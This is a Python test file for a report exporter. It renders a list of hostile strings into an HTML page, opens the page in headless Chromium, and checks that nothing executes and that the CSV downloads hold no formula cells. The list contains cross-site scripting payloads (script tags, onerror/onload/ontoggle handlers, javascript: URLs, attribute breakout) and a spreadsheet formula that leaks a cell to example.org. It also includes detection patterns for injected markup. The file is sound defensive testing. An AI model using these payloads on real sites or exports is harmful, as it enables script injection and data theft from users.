"""Hostile text from every origin a user controls, rendered into a page and opened in Chromium.

Origins: catalogue and scenario titles (shown as Markdown by the chapter views), the
measures register (tables and Markdown), the manifest (provenance footer), editorial
Markdown (markdown cells), chart titles and alternative texts (inline SVG). The page is
built with the real exporter and template; the test fails on any dialog, any element or
attribute the hostile text injected, and any ``javascript:`` URL. The downloads written
for the page (CSV) must not contain a formula cell.

Needs Debian's Chromium at ``/usr/bin/chromium``; without it the test fails (never skips).
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt
import nbformat
import pandas as pd
import pytest

from bielefeld_integration.present.display import chart_bundle, table_bundle
from bielefeld_integration.report.chapters import ChapterSpec
from bielefeld_integration.report.export import (
    export_page,
    make_exporter,
    prepare_notebook,
)
from bielefeld_integration.report.site import page_context, provenance_context

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
]
pytestmark = [pytest.mark.slow, pytest.mark.browser]

HOSTILE = [
    'Ausländeranteil <img src="x" onerror="alert(1)">',
    "<script>alert(2)</script>",
    '<a href="javascript:alert(3)">Klick</a>',
    "[Klick](javascript:alert(4))",
    '<svg onload="alert(5)"></svg>',
    '<iframe src="javascript:alert(6)"></iframe>',
    '<details open ontoggle="alert(7)">x</details>',
    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
    '"><img src=x onerror=alert(8)>',
    "<style>body{display:none}</style>",
]
EVIL = " ".join(HOSTILE)


def _notebook() -> nbformat.NotebookNode:
    fig, ax = plt.subplots()
    ax.bar(["a", "b"], [1, 2])
    ax.set_title(EVIL)
    data = pd.DataFrame({"Titel": HOSTILE, "Wert": range(len(HOSTILE))})
    chart, chart_meta = chart_bundle(fig, alt=EVIL, data=data, name="hostile-chart", title=EVIL)
    plt.close(fig)
    table, table_meta = table_bundle(data, caption=EVIL, name="hostile-table")
    outputs = [
        # catalogue / scenario / register titles shown through display(Markdown(...))
        nbformat.v4.new_output("display_data", data={"text/markdown": f"**{h}**"})
        for h in HOSTILE
    ]
    outputs += [
        nbformat.v4.new_output("display_data", data=chart, metadata=chart_meta),
        nbformat.v4.new_output("display_data", data=table, metadata=table_meta),
        nbformat.v4.new_output("execute_result", data={"text/html": HOSTILE[0]}),
    ]
    code = nbformat.v4.new_code_cell("x = 1", outputs=outputs)
    for o in code.outputs:
        if o.output_type == "execute_result":
            o.execution_count = 1
    return nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_markdown_cell("# Überschrift\n\n" + "\n\n".join(HOSTILE)),
            code,
        ]
    )


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    nb = _notebook()
    csv_files = prepare_notebook(
        nb, page_id="index", csv_dir=base / "data", csv_href_prefix="data/", title=EVIL
    )
    chapter = ChapterSpec(slug="index", notebook="00_ueberblick.ipynb", title=EVIL)
    provenance = {
        "period": "2017",
        "inputs": [
            {
                "file": HOSTILE[0],
                "sha256": "0" * 64,
                "domain": HOSTILE[2],
                "format": HOSTILE[1],
                "reference_date": "2017-12-31",
                "origin": EVIL,
            }
        ],
    }
    context = page_context(
        period="2017",
        chapter=chapter,
        district=None,
        chapters=[chapter],
        districts=[],
        periods=["2017"],
        provenance=provenance_context(provenance, [("period", EVIL)]),
        generated="erzeugt am 1. Januar 2027",
    )
    html = export_page(make_exporter(), nb, context=context, notebook_dir=str(base))
    path = base / "index.html"
    path.write_text(html, encoding="utf-8")
    (base / "csv-files.txt").write_text("\n".join(str(p) for p in csv_files), encoding="utf-8")
    return path


INJECTED_JS = """
() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/\\s/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(el.tagName + ' ' + name);
      const url = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster'];
      if (url.includes(name) && value.includes('javascript:')) found.push(el.tagName + ' ' + name);
    }
  }
  for (const sel of ['script', 'iframe', 'object', 'embed', 'body style:not(svg style)',
                     'details[ontoggle]', 'img:not([src^="data:"])', 'body svg svg']) {
    for (const el of document.querySelectorAll(sel)) found.push('element ' + sel);
  }
  return found;
}
"""


def test_no_dialog_no_injected_element_no_javascript_url(page):
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} fehlt (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    dialogs: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True
        )
        try:
            tab = browser.new_page()
            tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            tab.goto(page.as_uri())
            tab.wait_for_timeout(500)
            for details in tab.query_selector_all("details"):
                details.click()
            tab.wait_for_timeout(200)
            injected = tab.evaluate(INJECTED_JS)
            text = tab.inner_text("body")
        finally:
            browser.close()
    assert dialogs == []
    assert injected == [], injected
    assert "Ausländeranteil" in text  # the text itself is still shown


class _Tags(HTMLParser):
    """Every start tag of a page with its attributes (as a browser's tokenizer sees them)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def test_page_source_has_no_live_hostile_markup(page):
    parser = _Tags()
    parser.feed(page.read_text(encoding="utf-8"))
    tags = parser.tags
    assert not [t for t, _ in tags if t in ("script", "iframe", "object", "embed")]
    assert not [(t, k) for t, a in tags for k in a if k.startswith("on")]
    urls = [a.get(k, "") for _, a in tags for k in ("href", "src", "action", "formaction")]
    assert not [u for u in urls if "javascript:" in "".join(u.split()).lower()]
    assert not [a for t, a in tags if t == "img" and not a.get("src", "").startswith("data:")]


def test_downloads_of_the_page_have_no_formula_cells(page):
    files = (page.parent / "csv-files.txt").read_text(encoding="utf-8").split()
    assert files
    for name in files:
        text = Path(name).read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not (cell.startswith("-") and not cell[1:2].isdigit()), (name, cell)
